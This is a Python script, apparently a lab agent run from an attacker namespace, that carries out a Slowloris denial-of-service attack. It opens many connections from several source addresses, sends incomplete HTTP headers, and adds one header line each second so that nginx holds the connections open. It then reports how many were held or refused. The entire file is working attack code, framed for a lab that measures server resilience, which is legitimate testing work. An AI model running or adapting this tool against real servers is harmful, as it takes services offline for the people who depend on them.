"""Slowloris: each source opens many connections, sends the start of a request and never finishes it.

A lab agent (agent.py) in the attacker's namespace; its spec:

    {"host": "192.0.2.1", "port": 80, "sources": ["192.0.2.10", ...], "per_source": 100, "seconds": 5}

Connections are opened one after another (non-blocking, so a dropped SYN stalls nothing), then every
second each open connection sends one more header line, which keeps nginx waiting for the rest (its
client_header_timeout, 60 s by default, outlasts the run). Outcome: {"attempted", "held", "refused"}: at
the end, connections still open, and those reset or never established.
"""
import select
import socket
import time

import agent


def main():
    spec = agent.start()
    deadline = time.monotonic() + float(spec["seconds"])
    pending, held, refused, attempted = [], [], 0, 0
    for source in spec["sources"]:
        for _ in range(int(spec["per_source"])):
            s = socket.socket()
            s.setblocking(False)
            s.bind((source, 0))
            try:
                s.connect((spec["host"], spec["port"]))
            except BlockingIOError:
                pass
            except OSError:
                refused += 1
                s.close()
                continue
            attempted += 1
            pending.append(s)
    connect_deadline = min(deadline, time.monotonic() + 3)
    while pending and time.monotonic() < connect_deadline:
        _, writable, _ = select.select([], pending, [], 0.2)
        for s in writable:
            pending.remove(s)
            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                refused += 1
                s.close()
                continue
            try:
                s.send(b"GET / HTTP/1.1\r\nHost: api.example.com\r\n")
                held.append(s)
            except OSError:
                refused += 1
                s.close()
    refused += len(pending)  # never established
    for s in pending:
        s.close()
    while time.monotonic() < deadline:
        time.sleep(min(1, max(0, deadline - time.monotonic())))
        for s in list(held):
            try:
                s.send(b"X-a: b\r\n")
                readable, _, _ = select.select([s], [], [], 0)
                if readable and s.recv(1) == b"":
                    raise ConnectionResetError
            except OSError:
                held.remove(s)
                refused += 1
                s.close()
    agent.finish({"attempted": attempted, "held": len(held), "refused": refused})
    for s in held:
        s.close()


if __name__ == "__main__":
    main()
